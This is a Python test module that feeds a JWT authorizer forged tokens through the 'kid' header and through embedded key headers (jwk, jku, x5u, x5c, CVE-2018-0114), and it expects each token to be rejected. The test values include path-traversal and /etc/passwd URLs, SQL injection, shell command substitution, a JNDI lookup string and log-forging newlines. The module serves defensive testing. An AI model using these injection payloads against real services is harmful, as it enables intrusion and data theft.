"""Attacks by way of ``kid``, and of keys that the token brings along."""

from collections.abc import Iterator

from authorizer.denial import Reason
from testkit.encoding import base64url
from testkit.signers import ALGORITHMS, signer
from testkit.tokens import ABSENT, header, token

from .case import MARKER, Case, Keys, case, claims, group, headed

ARN = "arn:aws:kms:eu-central-1:123456789012:key"


@group("kid: missing", at_least=3)
def missing(keys: Keys) -> Iterator[Case]:
    """There is no key to fall back to, not even if only one were trusted."""
    yield case("absent", Reason.UNKNOWN_KEY, headed(keys, kid=ABSENT))
    yield case("null", Reason.UNKNOWN_KEY, headed(keys, kid=None))
    yield case("in another header", Reason.UNKNOWN_KEY, headed(keys, kid=ABSENT, key_id=keys.key.kid))
    yield case(
        "in the claims", Reason.UNKNOWN_KEY, token(keys.key, claims(kid=keys.key.kid), header(keys.key, kid=ABSENT))
    )


@group("kid: unknown", at_least=20)
def unknown(keys: Keys) -> Iterator[Case]:
    """A name is compared exactly, and is never a path, a query or a URL."""
    kid = keys.key.kid
    near = (
        kid.upper(),
        kid[:-1],
        kid + "0",
        kid[1:],
        f" {kid}",
        f"{kid} ",
        kid.replace("-", ""),
        f"{{{kid}}}",
        f"{kid}\0",
    )
    for name in (
        *near,
        f"{ARN}/{kid}",
        f"alias/{kid}",
        f"{kid},{keys.second.kid}",
        f"{kid}/../{kid}",
        f"urn:uuid:{kid}",
    ):
        yield case(repr(name), Reason.UNKNOWN_KEY, headed(keys, kid=name))
    paths = (
        "../../../../dev/null",
        "/dev/null",
        "file:///etc/passwd",
        "C:\\Windows\\win.ini",
        f"http://192.0.2.1/{MARKER}",
    )
    queries = (
        f"x' UNION SELECT '{MARKER}",
        "' OR '1'='1",
        f"$(touch {MARKER})",
        f"`{MARKER}`",
        "${jndi:ldap://192.0.2.1/x}",
    )
    for name in (*paths, *queries, "", "0", "null", "__class__", MARKER):
        yield case(repr(name), Reason.UNKNOWN_KEY, headed(keys, kid=name))


@group("kid: not text", at_least=8)
def not_text(keys: Keys) -> Iterator[Case]:
    """What cannot be looked up must not raise either."""
    kid = keys.key.kid
    others: list[object] = [0, 1.5, True, False, [], [kid], {}, {"kid": kid}]
    for other in others:
        yield case(repr(other), Reason.MALFORMED_TOKEN, headed(keys, kid=other))


@group("kid: huge", at_least=3)
def huge(keys: Keys) -> Iterator[Case]:
    """As long as fits beside the largest signature."""
    for name, text in {"letters": "k" * 1000, "dashes": "-" * 1000, "twice a name": keys.key.kid * 20}.items():
        yield case(name, Reason.UNKNOWN_KEY, headed(keys, kid=text))


@group("kid: control characters", at_least=10)
def control_characters(keys: Keys) -> Iterator[Case]:
    """Text that would forge a line in a log."""
    kid = keys.key.kid
    for text in ("\n", "\r\n", "\t", "\0", "\x1b[2J", "\x7f", "\x85", "\u2028", "\u202e", "\ufeff", "\u200b"):
        yield case(repr(text), Reason.UNKNOWN_KEY, headed(keys, kid=f"{kid}{text}"))
    for text in (f'{kid}"}}\n{{"level":"INFO","Reason":"{MARKER}"}}', f"{kid}\nSTART RequestId: {MARKER}"):
        yield case(repr(text), Reason.UNKNOWN_KEY, headed(keys, kid=text))


@group("kid: of another key", at_least=25)
def of_another_key(keys: Keys) -> Iterator[Case]:
    """Every trusted key is good for its own tokens only."""
    yield case("the second key's", Reason.BAD_SIGNATURE, headed(keys, kid=keys.second.kid))
    yield case("signed by the second", Reason.BAD_SIGNATURE, token(keys.second, claims(), header(keys.key)))
    for alg in ALGORITHMS:
        if alg != keys.alg:
            other = signer(alg)
            yield case(f"{alg}'s", Reason.WRONG_ALGORITHM, headed(keys, kid=other.kid))
            yield case(f"{alg}'s, and its alg", Reason.BAD_SIGNATURE, headed(keys, kid=other.kid, alg=alg))


@group("key: retired or foreign", at_least=3)
def foreign(keys: Keys) -> Iterator[Case]:
    """A key that is not in the set, well made as its tokens are."""
    stranger = keys.stranger
    yield case("under its own name", Reason.UNKNOWN_KEY, token(stranger, claims()))
    yield case("under a trusted name", Reason.BAD_SIGNATURE, token(stranger, claims(), header(keys.key)))
    yield case("without a name", Reason.UNKNOWN_KEY, token(stranger, claims(), header(stranger, kid=ABSENT)))


@group("key: brought along", at_least=24)
def brought_along(keys: Keys) -> Iterator[Case]:
    """CVE-2018-0114: a key out of the token is never used, never fetched, and its presence is rejected."""
    stranger = keys.stranger
    certificate = base64url(b"0\x82" + bytes(60))
    headers: dict[str, list[object]] = {
        "jwk": [stranger.jwk, keys.key.jwk, {}, None],
        "jku": [f"https://192.0.2.1/{MARKER}.json", "file:///etc/passwd", "", None],
        "x5u": [f"https://192.0.2.1/{MARKER}.pem", "data:,x", "", None],
        "x5c": [[certificate], certificate, [], None],
    }
    for name, values in headers.items():
        for index, value in enumerate(values):
            forged = header(stranger, **{"kid": keys.key.kid, name: value})
            yield case(f"{name} {index}, well signed", Reason.FORBIDDEN_HEADER, headed(keys, **{name: value}))
            yield case(f"{name} {index}, signed by it", Reason.FORBIDDEN_HEADER, token(stranger, claims(), forged))
    forged = header(stranger, jwk=stranger.jwk, kid=ABSENT)
    yield case("jwk instead of kid", Reason.FORBIDDEN_HEADER, token(stranger, claims(), forged))


GROUPS = (missing, unknown, not_text, huge, control_characters, of_another_key, foreign, brought_along)
